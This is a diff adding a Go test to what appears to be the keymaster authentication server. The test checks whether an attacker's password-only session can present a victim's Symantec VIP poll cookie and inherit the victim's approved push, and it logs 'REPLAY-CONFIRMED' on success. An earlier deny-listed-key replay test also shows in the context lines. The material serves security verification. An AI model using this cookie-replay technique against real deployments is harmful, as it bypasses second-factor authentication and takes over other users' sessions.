@@ -18,6 +18,7 @@ import (
 	"time"
 
 	"github.com/Cloud-Foundations/keymaster/lib/instrumentedwriter"
+	"github.com/Cloud-Foundations/keymaster/lib/vip"
 )
 
 func verifReplayInputs(t *testing.T) map[string]string {
@@ -199,6 +200,55 @@ func TestVerifReplayDeniedIPCert(t *testing.T) {
 	if userErr == nil && err == nil && user != "" {
 		t.Logf("REPLAY-CONFIRMED: a deny-listed key authenticates through an IP-restricted certificate")
 	} else {
+		t.Logf("REPLAY-NOT-REPRODUCED")
+	}
+}
+
+// C05: a VIP push approved for another user's transaction, polled with the attacker's session.
+func TestVerifReplayVIPPollOtherUser(t *testing.T) {
+	const approved = `<?xml version="1.0"?>
+<S:Envelope xmlns:S="http://schemas.xmlsoap.org/soap/envelope/"><S:Body>
+<PollPushStatusResponse xmlns="https://schemas.symantec.com/vip/2011/04/vipuserservices">
+<requestId>1</requestId><status>0000</status><statusMessage>Success</statusMessage>
+<transactionStatus><transactionId>tx-victim</transactionId><status>7000</status><statusMessage>Mobile push request approved by user</statusMessage></transactionStatus>
+</PollPushStatusResponse></S:Body></S:Envelope>`
+	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte(approved)) }))
+	defer srv.Close()
+	state, passwdFile, err := setupValidRuntimeStateSigner(t)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.Remove(passwdFile.Name())
+	pool := x509.NewCertPool()
+	pool.AddCert(srv.Certificate())
+	state.Config.SymantecVIP.Enabled = true
+	state.Config.SymantecVIP.Client = &vip.Client{VipUserServicesURL: srv.URL, VipUserServiceAuthenticationURL: srv.URL, RootCAs: pool, Cert: srv.TLS.Certificates[0]}
+	// the victim started a push; its transaction is stored under the victim's poll cookie value
+	state.vipPushCookie = map[string]pushPollTransaction{"victim-poll-cookie": {Username: "victim", TransactionID: "tx-victim", ExpiresAt: time.Now().Add(time.Minute)}}
+	// the attacker holds a password-only session of their own and presents the victim's poll cookie value
+	cookieVal, err := state.genNewSerializedAuthJWT("attacker", AuthTypePassword, 60)
+	if err != nil {
+		t.Fatal(err)
+	}
+	req := httptest.NewRequest("GET", vipPollCheckPath, nil)
+	req.AddCookie(&http.Cookie{Name: authCookieName, Value: cookieVal})
+	req.AddCookie(&http.Cookie{Name: vipTransactionCookieName, Value: "victim-poll-cookie"})
+	rec := httptest.NewRecorder()
+	w := &instrumentedwriter.LoggingWriter{ResponseWriter: rec}
+	state.VIPPollCheckHandler(w, req)
+	level := 0
+	for _, c := range rec.Result().Cookies() {
+		if c.Name == authCookieName {
+			if info, err := state.getAuthInfoFromAuthJWT(c.Value); err == nil {
+				level = info.AuthType
+				t.Logf("attacker's session polled the victim's approved push -> status %d, new cookie for %q with level %#x", rec.Code, info.Username, info.AuthType)
+			}
+		}
+	}
+	if level&AuthTypeSymantecVIP != 0 {
+		t.Logf("REPLAY-CONFIRMED: a push approved by another user raised this session's level")
+	} else {
+		t.Logf("status %d, no upgraded cookie", rec.Code)
 		t.Logf("REPLAY-NOT-REPRODUCED")
 	}
 }
